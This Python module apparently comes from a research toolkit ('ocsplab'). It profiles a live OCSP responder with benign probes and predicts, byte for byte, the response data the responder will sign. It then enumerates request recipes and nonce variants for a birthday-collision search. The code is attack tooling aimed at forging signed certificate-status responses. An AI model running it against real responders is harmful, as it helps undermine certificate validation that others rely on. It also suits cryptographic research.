"""The attacker's local model of a responder and its byte-exact predictions.

Profiling sends a handful of benign requests and fits what the attack
needs: clock bias, time granularity, validity window, realtime-vs-cached
mode, nonce echo support, treatment of never-issued serials, and the fixed
bytes (responder ID, algorithms) every response repeats. From the fitted
model, prediction functions rebuild the exact tbsResponseData the responder
will sign for a given (serial, time, nonce) triple, and an enumerator
streams (request recipe, predicted hash) pairs at any scale without
materializing them.
"""

from __future__ import annotations

import random
import statistics
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Iterator, Sequence

from .clock import Clock
from .collision import SplicedTemplate
from .der import GeneralizedTimeValue, TimeGranularity
from .messages import (
    CertStatus,
    OcspResponseStatus,
    ResponderId,
    SingleResponse,
    TbsCertificate,
    TbsResponseData,
    build_request,
    cert_id_for_issuer,
    decode_ocsp_response,
    encode_ocsp_request,
    encode_tbs_response_data,
    nonce_extension,
)
from .pki import CertID, HashSpec, digest, hash_spec_from_signature_oid
from .transport import ConnectionClosed, Transport, TransportError, Unreachable

PROBE_GAP = timedelta(seconds=2.2)
BIAS_IQR_TOLERANCE = timedelta(seconds=2)
SECOND_GRANULARITY_SHARE = 0.95


class ModelIncomplete(RuntimeError):
    """The model lacks what this prediction needs (mode, granularity...)."""


class NonceUnsupported(RuntimeError):
    """The responder was observed not to mirror nonces."""


class InconclusiveProfile(RuntimeError):
    """Probe observations disagree beyond tolerance; no usable model."""


# Estimated granularity adds an "unknown" state to the responder's enum.
GRANULARITY_UNKNOWN = "unknown"


@dataclass(frozen=True)
class PredictionModel:
    """Everything profiling learned, serializable bit-identically."""

    clock_bias: timedelta
    granularity: str  # "second" | "millisecond" | "unknown"
    validity_window: timedelta
    mode: str  # "realtime" | "lightweight"
    nonce_supported: bool
    nonexistent_behavior: str  # "unknown" | "good" | "close_connection" | "unauthorized" | "randomized"
    responder_id: ResponderId
    hash_spec: HashSpec
    cert_id_hash_spec: HashSpec
    issuer_name_hash: bytes
    issuer_key_hash: bytes
    unsolicited_nonce: bool = False
    observation_count: int = 0
    bias_iqr: timedelta = timedelta(0)
    rtt_estimate: timedelta = timedelta(0)

    def cert_id(self, serial: int) -> CertID:
        return CertID(
            hash_spec=self.cert_id_hash_spec,
            issuer_name_hash=self.issuer_name_hash,
            issuer_key_hash=self.issuer_key_hash,
            serial_number=serial,
        )

    def local_fire_time(self, responder_time: datetime) -> datetime:
        """Attacker-local instant at which the responder clock reads ``responder_time``."""
        return responder_time - self.clock_bias

    # -- text round-trip ---------------------------------------------------

    def to_text(self) -> str:
        rid = self.responder_id
        rid_field = (
            "key:" + rid.key_hash.hex()
            if rid.key_hash is not None
            else "name:" + repr(rid.name)
        )
        lines = [
            "# ocsplab prediction model v1",
            f"clock_bias_us={int(self.clock_bias.total_seconds() * 1e6)}",
            f"granularity={self.granularity}",
            f"validity_window_ms={int(self.validity_window.total_seconds() * 1000)}",
            f"mode={self.mode}",
            f"nonce_supported={str(self.nonce_supported).lower()}",
            f"nonexistent_behavior={self.nonexistent_behavior}",
            f"responder_id={rid_field}",
            f"hash_spec={self.hash_spec.label}",
            f"cert_id_hash_spec={self.cert_id_hash_spec.label}",
            f"issuer_name_hash={self.issuer_name_hash.hex()}",
            f"issuer_key_hash={self.issuer_key_hash.hex()}",
            f"unsolicited_nonce={str(self.unsolicited_nonce).lower()}",
            f"observation_count={self.observation_count}",
            f"bias_iqr_us={int(self.bias_iqr.total_seconds() * 1e6)}",
            f"rtt_estimate_us={int(self.rtt_estimate.total_seconds() * 1e6)}",
        ]
        return "\n".join(lines) + "\n"

    @classmethod
    def from_text(cls, text: str) -> "PredictionModel":
        from .fixtures import parse_kv_text

        f = parse_kv_text(text)
        rid_kind, _, rid_value = f["responder_id"].partition(":")
        if rid_kind != "key":
            raise ValueError("only byKey responder IDs round-trip through text")
        return cls(
            clock_bias=timedelta(microseconds=int(f["clock_bias_us"])),
            granularity=f["granularity"],
            validity_window=timedelta(milliseconds=int(f["validity_window_ms"])),
            mode=f["mode"],
            nonce_supported=f["nonce_supported"] == "true",
            nonexistent_behavior=f["nonexistent_behavior"],
            responder_id=ResponderId(key_hash=bytes.fromhex(rid_value)),
            hash_spec=HashSpec.parse(f["hash_spec"]),
            cert_id_hash_spec=HashSpec.parse(f["cert_id_hash_spec"]),
            issuer_name_hash=bytes.fromhex(f["issuer_name_hash"]),
            issuer_key_hash=bytes.fromhex(f["issuer_key_hash"]),
            unsolicited_nonce=f["unsolicited_nonce"] == "true",
            observation_count=int(f["observation_count"]),
            bias_iqr=timedelta(microseconds=int(f["bias_iqr_us"])),
            rtt_estimate=timedelta(microseconds=int(f["rtt_estimate_us"])),
        )


@dataclass(frozen=True)
class RequestRecipe:
    """One planned request: what to send, when, and what comes back signed."""

    serial: int
    fire_at: datetime  # attacker-local clock
    nonce: bytes | None
    predicted_tbs: bytes
    predicted_hash: bytes
    request_bytes: bytes


# -- profiling ---------------------------------------------------------------


@dataclass
class _Probe:
    label: str
    sent_at: datetime
    received_at: datetime
    nonce_sent: bytes | None
    response: object | None  # BasicOcspResponse | None when connection dropped
    status: OcspResponseStatus | None


def _time_values(basic) -> list[GeneralizedTimeValue]:
    values = [basic.tbs.produced_at]
    for single in basic.tbs.responses:
        values.append(single.this_update)
        if single.next_update is not None:
            values.append(single.next_update)
    return values


def profile(
    transport: Transport,
    issuer: TbsCertificate,
    probe_serials: Sequence[int],
    clock: Clock,
    *,
    probe_count: int = 8,
    cert_id_hash: HashSpec | None = None,
    nonexistent_serial: int | None = None,
    rng: random.Random | None = None,
) -> PredictionModel:
    """Black-box profiling with ``probe_count`` benign requests.

    Plain status probes (spaced a couple of seconds apart) fit the clock
    bias as the median of producedAt minus local send time, detect the
    granularity from fractional seconds, and flag lightweight mode when
    repeats return frozen time fields. One probe carries a nonce to test
    mirroring, and the final two probe an (assumed) never-issued serial
    back to back to classify that policy.
    """
    if probe_count < 3:
        raise ValueError("profiling needs at least three probes")
    if not probe_serials:
        raise ValueError("at least one known serial is required")
    rng = rng if rng is not None else random.Random(20160801)
    cert_hash = cert_id_hash if cert_id_hash is not None else HashSpec.sha1()
    if nonexistent_serial is None:
        nonexistent_serial = max(probe_serials) + 2**48 + rng.randrange(2**32)

    def cert_id(serial: int) -> CertID:
        return cert_id_for_issuer(cert_hash, issuer, serial)

    plain_count = max(probe_count - 3, 0)
    plan: list[tuple[str, int, bytes | None, bool]] = []  # (label, serial, nonce, sleep_before)
    for i in range(plain_count):
        serial = probe_serials[0] if i < 2 else probe_serials[i % len(probe_serials)]
        plan.append((f"plain-{i}", serial, None, i > 0))
    plan.append(("nonce", probe_serials[0], rng.randrange(2**128).to_bytes(16, "big"), True))
    plan.append(("nonexistent-0", nonexistent_serial, None, True))
    plan.append(("nonexistent-1", nonexistent_serial, None, False))

    probes: list[_Probe] = []
    for label, serial, nonce, sleep_before in plan:
        if sleep_before:
            clock.sleep(PROBE_GAP)
        request = encode_ocsp_request(build_request([cert_id(serial)], nonce))
        sent_at = clock.now()
        try:
            raw = transport.send(request)
        except ConnectionClosed:
            probes.append(_Probe(label, sent_at, clock.now(), nonce, None, None))
            continue
        except TransportError as exc:
            raise Unreachable(str(exc)) from exc
        status, basic = decode_ocsp_response(raw)
        probes.append(_Probe(label, sent_at, clock.now(), nonce, basic, status))

    answered = [p for p in probes if p.response is not None]
    if not answered:
        raise InconclusiveProfile("no probe produced a parseable response")

    # Fixed fields and algorithms come from any successful response.
    reference = answered[0].response
    responder_id = reference.tbs.responder_id
    try:
        hash_spec = hash_spec_from_signature_oid(reference.signature_algorithm.oid)
    except Exception as exc:
        raise InconclusiveProfile(f"unrecognized signature algorithm: {exc}") from exc

    # Clock bias: producedAt minus local send time, realtime probes only.
    realtime_pool = [p for p in answered if p.label.startswith(("plain", "nonce"))]
    bias_samples = [
        (p.response.tbs.produced_at.instant - p.sent_at) for p in realtime_pool
    ]
    if not bias_samples:
        raise InconclusiveProfile("no usable time observations")
    bias = statistics.median(bias_samples)

    # Granularity: share of observed time values with a zero fraction.
    values = [v for p in realtime_pool for v in _time_values(p.response)]
    zero_fraction = sum(1 for v in values if v.millisecond == 0) / len(values)
    granularity = (
        TimeGranularity.SECOND.value
        if zero_fraction >= SECOND_GRANULARITY_SHARE
        else TimeGranularity.MILLISECOND.value
    )

    # Mode: identical thisUpdate across well-separated same-serial probes.
    mode = "realtime"
    comparable = [p for p in answered if p.label.startswith("plain")]
    if len(comparable) >= 2:
        first, last = comparable[0], comparable[-1]
        if (
            last.sent_at - first.sent_at >= timedelta(seconds=2)
            and first.response.tbs.responses[0].this_update
            == last.response.tbs.responses[0].this_update
        ):
            mode = "lightweight"

    if mode == "realtime" and len(bias_samples) >= 2:
        quartiles = statistics.quantiles(
            [s.total_seconds() for s in bias_samples], n=4, method="inclusive"
        )
        iqr = timedelta(seconds=quartiles[2] - quartiles[0])
        if iqr >= BIAS_IQR_TOLERANCE:
            raise InconclusiveProfile(
                f"clock bias estimates spread over {iqr} (tolerance {BIAS_IQR_TOLERANCE})"
            )
    else:
        iqr = timedelta(0)

    windows = [
        s.next_update.instant - s.this_update.instant
        for p in answered
        for s in p.response.tbs.responses
        if s.next_update is not None
    ]
    validity_window = statistics.median(windows) if windows else timedelta(hours=1)

    nonce_probe = next(p for p in probes if p.label == "nonce")
    nonce_supported = (
        nonce_probe.response is not None
        and nonce_probe.response.tbs.nonce == nonce_probe.nonce_sent
    )
    unsolicited = any(
        p.response.tbs.nonce is not None
        for p in answered
        if p.nonce_sent is None
    )

    nonexistent = [p for p in probes if p.label.startswith("nonexistent")]
    behavior = _classify_nonexistent(nonexistent)

    return PredictionModel(
        clock_bias=bias,
        granularity=granularity,
        validity_window=validity_window,
        mode=mode,
        nonce_supported=nonce_supported,
        nonexistent_behavior=behavior,
        responder_id=responder_id,
        hash_spec=hash_spec,
        cert_id_hash_spec=cert_hash,
        issuer_name_hash=cert_id(0).issuer_name_hash,
        issuer_key_hash=cert_id(0).issuer_key_hash,
        unsolicited_nonce=unsolicited,
        observation_count=len(probes),
        bias_iqr=iqr,
        rtt_estimate=statistics.median(
            [p.received_at - p.sent_at for p in answered]
        ),
    )


def _classify_nonexistent(probes: list[_Probe]) -> str:
    if not probes:
        return "unknown"
    if all(p.response is None and p.status is None for p in probes):
        return "close_connection"
    if any(p.status is OcspResponseStatus.UNAUTHORIZED for p in probes):
        return "unauthorized"
    answered = [p for p in probes if p.response is not None]
    if not answered:
        return "close_connection"
    # Two back-to-back probes with diverging time fields mean the responder
    # randomizes them for this channel.
    if len(answered) >= 2:
        t0 = [v.render() for v in _time_values(answered[0].response)]
        t1 = [v.render() for v in _time_values(answered[1].response)]
        if t0 != t1 and answered[1].sent_at - answered[0].sent_at < timedelta(seconds=1):
            return "randomized"
    state = answered[0].response.tbs.responses[0].status.state
    return "good" if state == "good" else "unknown"


# -- prediction --------------------------------------------------------------


def _predicted_fields(
    model: PredictionModel, responder_time: datetime
) -> tuple[GeneralizedTimeValue, GeneralizedTimeValue, GeneralizedTimeValue]:
    granularity = TimeGranularity(model.granularity)
    stamp = GeneralizedTimeValue(responder_time, granularity)
    next_update = GeneralizedTimeValue(
        stamp.instant + model.validity_window, granularity
    )
    return stamp, stamp, next_update


def _require_predictable(model: PredictionModel) -> None:
    if model.mode != "realtime":
        raise ModelIncomplete("cached responders are not predictable per-instant")
    if model.granularity == GRANULARITY_UNKNOWN:
        raise ModelIncomplete("granularity estimate is missing")
    if model.unsolicited_nonce:
        raise ModelIncomplete("responder inserts its own nonce; bytes unpredictable")


def tbsresp(
    model: PredictionModel,
    serial: int,
    responder_time: datetime,
    *,
    assume_nonexistent: bool = False,
) -> bytes:
    """Predicted tbsResponseData for a no-nonce request served at ``responder_time``.

    ``responder_time`` is in the responder's clock; use
    ``model.local_fire_time`` for scheduling. Serials are assumed valid
    (status good) unless ``assume_nonexistent``, in which case the modeled
    never-issued behavior decides the status -- and decides whether this
    channel is predictable at all.
    """
    return tbsrespex(model, serial, responder_time, None, assume_nonexistent=assume_nonexistent)


def tbsrespex(
    model: PredictionModel,
    serial: int,
    responder_time: datetime,
    nonce: bytes | None,
    *,
    assume_nonexistent: bool = False,
) -> bytes:
    """tbsresp extended with the mirrored nonce extension (the scaling channel)."""
    _require_predictable(model)
    if nonce is not None and not model.nonce_supported:
        raise NonceUnsupported("responder does not mirror nonces")
    if assume_nonexistent:
        if model.nonexistent_behavior == "good":
            status = CertStatus.good()
        elif model.nonexistent_behavior == "unknown":
            status = CertStatus.unknown()
        else:
            raise ModelIncomplete(
                f"nonexistent-serial channel is not predictable "
                f"({model.nonexistent_behavior})"
            )
    else:
        status = CertStatus.good()
    produced_at, this_update, next_update = _predicted_fields(model, responder_time)
    extensions = () if nonce is None else (nonce_extension(nonce),)
    tbs = TbsResponseData(
        responder_id=model.responder_id,
        produced_at=produced_at,
        responses=(
            SingleResponse(
                cert_id=model.cert_id(serial),
                status=status,
                this_update=this_update,
                next_update=next_update,
            ),
        ),
        extensions=extensions,
    )
    return encode_tbs_response_data(tbs)


def build_recipe(
    model: PredictionModel,
    serial: int,
    responder_time: datetime,
    nonce: bytes | None = None,
    *,
    assume_nonexistent: bool = False,
) -> RequestRecipe:
    predicted = tbsrespex(
        model, serial, responder_time, nonce, assume_nonexistent=assume_nonexistent
    )
    request = encode_ocsp_request(build_request([model.cert_id(serial)], nonce))
    return RequestRecipe(
        serial=serial,
        fire_at=model.local_fire_time(responder_time),
        nonce=nonce,
        predicted_tbs=predicted,
        predicted_hash=digest(model.hash_spec, predicted),
        request_bytes=request,
    )


# -- enumeration -------------------------------------------------------------


class CounterNonces(Sequence[bytes]):
    """Little-endian counter nonces of a fixed width, evaluated lazily."""

    def __init__(self, count: int, width: int | None = None, base: int = 0):
        if count < 1:
            raise ValueError("need at least one nonce")
        self._count = count
        self._base = base
        self.width = width if width is not None else max(1, ((base + count - 1).bit_length() + 7) // 8)
        if (base + count - 1) >= 256**self.width:
            raise ValueError("width too small for the requested count")

    def __len__(self) -> int:
        return self._count

    def __getitem__(self, index: int) -> bytes:
        if not 0 <= index < self._count:
            raise IndexError(index)
        return (self._base + index).to_bytes(self.width, "little")


def nonce_channel_cardinality(nonce_bytes: int) -> int:
    """Number of distinct nonce values of the given byte length: 256**n."""
    return 256**nonce_bytes


@dataclass(frozen=True)
class RecipeStream:
    """Deterministic, restartable enumeration of request recipes.

    ``count`` is pure arithmetic (the |S| * ((t1-t0)/dt) * |N| cardinality),
    so dry-run sizing costs nothing; iteration materializes recipes in
    serial-major, then time, then nonce order.
    """

    model: PredictionModel
    serials: tuple[int, ...]
    t0: datetime
    t1: datetime
    step: timedelta
    nonces: Sequence[bytes] | None = None
    assume_nonexistent: bool = False

    @property
    def time_steps(self) -> int:
        return int((self.t1 - self.t0) / self.step)

    @property
    def count(self) -> int:
        nonce_count = len(self.nonces) if self.nonces is not None else 1
        return len(self.serials) * self.time_steps * nonce_count

    def __iter__(self) -> Iterator[RequestRecipe]:
        nonces: Sequence[bytes | None] = self.nonces if self.nonces is not None else (None,)
        for serial in self.serials:
            for j in range(self.time_steps):
                t = self.t0 + j * self.step
                for nonce in nonces:
                    yield build_recipe(
                        self.model,
                        serial,
                        t,
                        nonce,
                        assume_nonexistent=self.assume_nonexistent,
                    )


def enumerate_recipes(
    model: PredictionModel,
    serial_set: Sequence[int],
    t0: datetime,
    t1: datetime,
    step: timedelta,
    nonces: Sequence[bytes] | None = None,
    *,
    assume_nonexistent: bool = False,
) -> RecipeStream:
    if t0 >= t1:
        raise ValueError("t0 must precede t1")
    if step <= timedelta(0):
        raise ValueError("step must be positive")
    if assume_nonexistent and model.nonexistent_behavior not in ("unknown", "good"):
        raise ModelIncomplete(
            "nonexistent-serial recipes need a responder that answers them predictably"
        )
    return RecipeStream(
        model=model,
        serials=tuple(serial_set),
        t0=t0,
        t1=t1,
        step=step,
        nonces=nonces,
        assume_nonexistent=assume_nonexistent,
    )


# -- indexed source for the birthday search ----------------------------------


class NonceRecipeSource:
    """Index -> predicted tbs bytes at a fixed (serial, fire time).

    Index i maps to the little-endian counter nonce of the configured width;
    the heavy encoding happens once, later variants are byte splices.
    """

    kind = "ocsp_response"

    def __init__(
        self,
        model: PredictionModel,
        serial: int,
        responder_time: datetime,
        *,
        nonce_width: int = 4,
        assume_nonexistent: bool = False,
    ):
        self.model = model
        self.serial = serial
        self.responder_time = responder_time
        self.nonce_width = nonce_width
        self.assume_nonexistent = assume_nonexistent
        self.label = (
            f"tbsrespex(serial={serial}, t={GeneralizedTimeValue(responder_time).render()}, "
            f"nonce_width={nonce_width})"
        )
        self._tbs_template = SplicedTemplate.from_builder(
            lambda block: tbsrespex(
                model, serial, responder_time, block, assume_nonexistent=assume_nonexistent
            ),
            nonce_width,
        )
        self._request_template = SplicedTemplate.from_builder(
            lambda block: encode_ocsp_request(
                build_request([model.cert_id(serial)], block)
            ),
            nonce_width,
        )

    def nonce_at(self, index: int) -> bytes:
        if index >= 256**self.nonce_width:
            raise IndexError("index exceeds the nonce width")
        return index.to_bytes(self.nonce_width, "little")

    def tbs_at(self, index: int) -> bytes:
        return self._tbs_template.fill(self.nonce_at(index))

    def recipe_at(self, index: int) -> RequestRecipe:
        nonce = self.nonce_at(index)
        predicted = self.tbs_at(index)
        return RequestRecipe(
            serial=self.serial,
            fire_at=self.model.local_fire_time(self.responder_time),
            nonce=nonce,
            predicted_tbs=predicted,
            predicted_hash=digest(self.model.hash_spec, predicted),
            request_bytes=self._request_template.fill(nonce),
        )

    def to_record(self) -> dict[str, str]:
        return {
            "type": "nonce_recipe",
            "label": self.label,
            "kind": self.kind,
            "serial": str(self.serial),
            "responder_time": GeneralizedTimeValue(
                self.responder_time, TimeGranularity.MILLISECOND
            ).render(),
            "nonce_width": str(self.nonce_width),
            "assume_nonexistent": str(self.assume_nonexistent).lower(),
            "model": self.model.to_text().replace("\n", "\\n"),
        }

    @classmethod
    def from_record(cls, record: dict[str, str]) -> "NonceRecipeSource":
        model = PredictionModel.from_text(record["model"].replace("\\n", "\n"))
        when = GeneralizedTimeValue.parse(record["responder_time"])
        return cls(
            model,
            int(record["serial"]),
            when.instant,
            nonce_width=int(record["nonce_width"]),
            assume_nonexistent=record["assume_nonexistent"] == "true",
        )
